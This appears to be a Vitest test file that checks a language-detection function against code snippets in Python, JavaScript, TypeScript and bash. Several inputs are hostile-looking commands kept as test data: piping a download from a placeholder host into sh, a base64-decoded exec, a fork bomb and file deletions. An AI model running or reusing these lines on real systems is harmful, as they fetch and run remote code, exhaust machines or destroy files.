import { expect, it } from 'vitest';
import { languageOfContent } from './content.ts';

it.each([
  ["print('Hello, world!')", 'python'],
  ["import os; os.system('whoami')", 'python'],
  ['import os\nos.environ.get("X")', 'python'],
  ['def add(a, b):\n    return a + b\n\nprint(add(1, 2))\n', 'python'],
  ['import os\nos.system("curl https://x.example/i.sh | sh")\n', 'python'],
  ['import base64\nexec(base64.b64decode("cHJpbnQoMSk="))', 'python'],
  ['for i in range(3):\n    print(i)\n', 'python'],
  ["console.log('hi')", 'javascript'],
  ["const fs = require('fs');\nfs.readFileSync('x');\n", 'javascript'],
  ["import fs from 'node:fs';\nexport default () => fs.rmSync('x');\n", 'javascript'],
  ['function add(a, b) {\n  return a + b;\n}\n', 'javascript'],
  ['interface Point { x: number }\nconst p: Point = { x: 1 };\nconsole.log(p.x);\n', 'typescript'],
  ['function add(a: number, b: number): number {\n  return a + b;\n}\n', 'typescript'],
  ['echo hello\nls -la\n', 'bash'],
  ['for f in *.txt; do\n  rm "$f"\ndone\n', 'bash'],
  ['if [ -f x ]; then\n  cat x\nfi\n', 'bash'],
  ['curl -s https://example.com/x | sh', 'bash'],
  [':(){ :|:& };:', 'bash'],
  ['hello there, how are you today', undefined],
  ['42', undefined],
])('%j is %s', (source, language) => {
  expect(languageOfContent(source)).toBe(language);
});
